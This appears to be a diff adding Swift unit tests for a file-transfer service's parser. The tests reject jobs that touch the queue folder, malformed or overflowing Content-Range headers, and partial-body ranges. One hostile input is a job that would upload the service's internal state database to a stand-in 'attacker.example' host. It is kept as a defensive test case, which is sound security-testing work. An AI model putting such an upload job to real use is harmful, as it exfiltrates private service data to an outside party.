@@ -115,6 +115,36 @@ final class HostileInputTests: XCTestCase {
         XCTAssertEqual(jobs?.first?.destination, "/data/out/.._.._escape.bin")
     }
 
+    func testNoJobReadsOrWritesInsideTheQueueFolder() {
+        let parser = JobFileParser(root: "/srv", queueDirectory: "/srv/queue.d")
+        for text in [#"{"type": "put", "url": "https://attacker.example/", "source": "queue.d/.transferd/state.db"}"#,
+                     #"{"url": "https://e.com/x.json", "dest": "queue.d/"}"#,
+                     #"{"url": "https://e.com/x", "dest": "/srv/queue.d/new.json"}"#] {
+            guard case .failure(let rejection) = parser.parse(name: "q.json", data: Data(text.utf8)) else {
+                return XCTFail("accepted \(text)")
+            }
+            XCTAssertTrue(rejection.description.contains("inside the queue folder"), rejection.description)
+        }
+        XCTAssertNotNil(try? parser.parse(name: "q.json", data: Data(#"{"url": "https://e.com/x", "dest": "queue.data/x"}"#.utf8)).get())
+    }
+
+    func testARangeEndingAtInt64MaxIsNotARange() {
+        XCTAssertNil(ContentRange(header: "bytes 0-9223372036854775807/*"))
+        XCTAssertEqual(ContentRange(header: "bytes 0-9223372036854775806/*")?.last, Int64.max - 1)
+        for lie in ["bytes -5-10/20", "bytes --5-10/20", "bytes +5-10/20", "bytes 5-+10/20", "bytes 5-10/+20", "bytes 5-10/", "bytes 5--10/20"] {
+            XCTAssertNil(ContentRange(header: lie), lie)
+        }
+        XCTAssertEqual(ContentRange(header: "bytes 5-10/20"), ContentRange(first: 5, last: 10, completeLength: 20))
+    }
+
+    func testAWholeBodyContentRangeOnA200IsHarmless() {
+        let head = ResponseHead(status: 200, headers: ["Content-Length": "1000"], url: URL(string: "http://h/x")!)
+        XCTAssertTrue(DownloadSink.coversWholeBody("bytes 0-999/1000", head: head, sentRange: false))
+        XCTAssertFalse(DownloadSink.coversWholeBody("bytes 0-499/1000", head: head, sentRange: false))
+        XCTAssertFalse(DownloadSink.coversWholeBody("bytes 0-999/1000", head: head, sentRange: true))
+        XCTAssertFalse(DownloadSink.coversWholeBody("bytes 0-999/2000", head: head, sentRange: false))
+    }
+
     // MARK: Redirects
 
     func request(_ url: String, headers: HTTPHeaders, method: String = "GET", body: RequestBody = .none) -> TransferRequest {
